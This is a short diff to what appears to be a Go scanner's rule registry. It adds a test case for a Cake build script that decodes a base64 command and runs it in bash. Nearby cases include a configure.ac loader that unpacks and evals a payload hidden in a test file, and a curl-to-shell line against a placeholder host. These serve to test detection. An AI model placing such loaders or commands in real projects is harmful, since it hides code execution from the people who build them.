@@ -64,6 +64,8 @@ var registry = []Rule{
 			// configure runs the shell inside configure.ac's macros.
 			{"configure.ac", "AC_INIT([x], [1.0])\nAC_CONFIG_COMMANDS_PRE([\n  p=`sed -n '/^#x/,$p' tests/files/x.lz | tr '\\t \\-_' ' \\t_\\-' | xz -dc`\n  eval \"$p\"\n])", 4, false},
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
+			// A Cake build script decoding a command and starting it.
+			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
 		{"x.sh", "curl -fsSL https://x.invalid/i | sh", 0, false},
